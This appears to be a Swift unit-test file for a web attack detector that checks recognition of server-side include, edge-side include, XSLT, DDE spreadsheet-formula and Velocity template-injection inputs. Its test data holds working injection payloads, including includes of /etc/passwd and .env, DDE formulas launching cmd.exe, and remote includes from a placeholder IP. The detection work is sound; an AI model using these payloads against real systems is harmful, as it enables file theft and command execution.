import Foundation
import PalisadeCore
import Testing

@testable import PalisadeDetect

/// Directives evaluated by a server, a caching proxy, an XSLT processor or a spreadsheet
/// (`ServerDirectives`, read by the code-injection detector), and Velocity's assignment probe.
@Suite struct ServerDirectiveTests {
    static func reading(_ text: String) -> CodeInjectionDetector.Finding? {
        CodeInjectionDetector.analyze(Array(text.utf8)[...])
    }

    @Test(arguments: [
        ("<!--#exec cmd=\"id\" -->", "code_injection.ssi_exec"),
        ("<!--#EXEC cgi=\"/cgi-bin/x\"-->", "code_injection.ssi_exec"),
        ("<!--#include virtual=\"/etc/passwd\" -->", "code_injection.ssi_include"),
        ("<!--#printenv -->", "code_injection.ssi"),
        ("see <!--#echo var=\"DATE_LOCAL\" --> here", "code_injection.ssi"),
        ("<esi:include src=\"http://203.0.113.9/\"/>", "code_injection.esi_include"),
        ("<ESI:Eval src=\"/x\"/>", "code_injection.esi_include"),
        ("<esi:vars>$(HTTP_COOKIE)</esi:vars>", "code_injection.esi"),
        ("<esi:debug/>", "code_injection.esi"),
        ("<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "code_injection.xslt"),
        ("<xsl:copy-of select=\"document('/etc/passwd')\"/>", "code_injection.xslt"),
        ("<xsl:include href=\"http://203.0.113.9/x.xsl\"/>", "code_injection.xslt"),
        ("<xsl:value-of select=\"unparsed-text('../../.env')\"/>", "code_injection.xslt"),
        ("=cmd|' /C calc'!A0", "code_injection.dde_formula"),
        ("  \"@SUM(1+1)*cmd|' /C calc'!A0", "code_injection.dde_formula"),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "code_injection.dde_formula"),
        ("=DDE(\"cmd\";\"/C calc\";\"!A0\")", "code_injection.dde_formula"),
    ])
    func directivesAreRead(_ text: String, _ rule: String) throws {
        let finding = try #require(Self.reading(text), "\(text)")
        #expect(finding.rule == rule, "\(text)")
        #expect(finding.confidence >= 0.6, "\(text)")
    }

    @Test(arguments: [
        "<!-- #include is a preprocessor directive -->", "<!--#region helpers--><!--#endregion-->",
        "<!--#execute-later -->", "<!-- header --><div></div>", "=SUM(A1:A9)", "=IF(B2>100,\"a\",\"b\")",
        "-5|'x'", "a|b|c", "total | 'net' | 'gross'", "@channel see the 'notes'!", "cmd|'/C calc'!A0",
        "<xsl:template match=\"/\"><xsl:value-of select=\"title\"/></xsl:template>",
        "the <esi-include> custom element", "<xsl:include href=\"common.xsl\"/>",
        "<xsl:value-of select=\"document('')/*/lookup\"/>", "<xsl:import href='shared/base.xsl'/>",
        "<xsl:copy-of select=\"document($f)\"/><xsl:value-of select=\"x\"/>",
        "<xsl:variable name=\"d\" select=\"document($file)\"/><xsl:copy-of select=\"$d/a\"/>",
        "Transform fails in <xsl:template match=\"order\">: java.lang.NullPointerException at line 12",
        "Our <xsl:stylesheet> uses a Java helper; we declare xmlns:java in it",
        "=HIDDE(A1)", "-- wadde( )", "- use grep|'foo'! to filter", "=SUM(A1)|'x'! y",
        "ESI (Edge Side Includes) assembles pages",
    ])
    func lookAlikesAreNotRead(_ text: String) {
        #expect(Self.reading(text) == nil, "\(text)")
    }

    /// A stylesheet testing the XSLT version is not an attack; asking for the vendor is the probe.
    @Test func systemPropertyVersionIsWeakVendorIsAProbe() throws {
        let version = try #require(Self.reading("<xsl:if test=\"system-property('xsl:version') >= 2.0\">"))
        #expect(version.confidence < 0.6)
        let vendor = try #require(Self.reading("<xsl:value-of select=\"system-property('xsl:vendor')\"/>"))
        #expect(vendor.confidence >= 0.7)
    }

    /// Many unclosed openers in one large value: every search for a closer is bounded, so the
    /// reading stays linear and still finds the directive.
    @Test(arguments: ["<!--#if ", "<!--#exec cmd=\"", "<xsl:a select=\"document(\"", "=cmd|'", "<esi:x"])
    func repeatedUnclosedOpenersAreReadInLinearTime(_ piece: String) {
        let value = Array(String(repeating: piece, count: (1 << 20) / piece.utf8.count).utf8)[...]
        var best = ExecBest()
        ServerDirectives.read(value, bytes: ByteSet(presentIn: value), &best)
        #expect(best.confidence < 1)
    }

    /// Every reading needs `gateBytes`: the detector's pre-filter stays a necessary condition.
    @Test func theGateHoldsForEveryDirective() {
        for text in ["<!--#exec cmd=\"id\" -->", "<esi:debug/>", "=cmd|' /C calc'!A0", "=DDE(\"cmd\")"] {
            let value = Array(text.utf8)[...]
            #expect(ByteSet(presentIn: value).intersects(CodeInjectionDetector.gateBytes))
            #expect(Self.reading(text) != nil)
        }
    }

    /// A sniffed value whose root element is an ESI or XSLT element stays text, so the directive
    /// is judged whole; anywhere in a request it is an attack at the default sensitivity.
    @Test(arguments: [
        "<esi:include src=\"http://203.0.113.9/x\"/>",
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        "<!--#exec cmd=\"id\" -->",
    ])
    func directivesInAJSONFieldAreAttacks(_ text: String) {
        let escaped = text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
        let record = CaptureRecord(
            id: "r", ts: 1, method: "POST", rawPath: "/api/notes", headers: [.init("content-type", "application/json")],
            body: Array("{\"comment\":\"\(escaped)\"}".utf8))
        let (decoded, verdict) = Analyzer().analyze(record)
        #expect(verdict.attack, "\(text)")
        #expect(verdict.hits.contains { $0.attackClass == .codeInjection }, "\(text)")
        #expect(!decoded.points.contains { $0.decoder == "xml" }, "\(text) was parsed as XML")
    }

    @Test(arguments: ["#set($x=7*7)${x}", "#set( $probe = 1337*3 )$probe", "#set(${n}=9*9)$n", "#set($!v = 7*'7')$v"])
    func velocityAssignmentProbesAreRead(_ text: String) throws {
        let finding = try #require(SSTIDetector.analyze(Array(text.utf8)[...]), "\(text)")
        #expect(finding.rule == "ssti.eval_probe")
    }

    @Test(arguments: [
        "#set($name = \"World\")Hello $name", "#set($total = $price + $tax)", "#set($x = 7)",
        "#set($maxAge = 60 * 60 * 24)Cache-Control: max-age=$maxAge", "#set($width = 2*12)",
        "#set($x = 7*7)${y}",
    ])
    func velocityAssignmentsOfDataAreNotProbes(_ text: String) {
        #expect(SSTIDetector.analyze(Array(text.utf8)[...])?.rule != "ssti.eval_probe", "\(text)")
    }
}
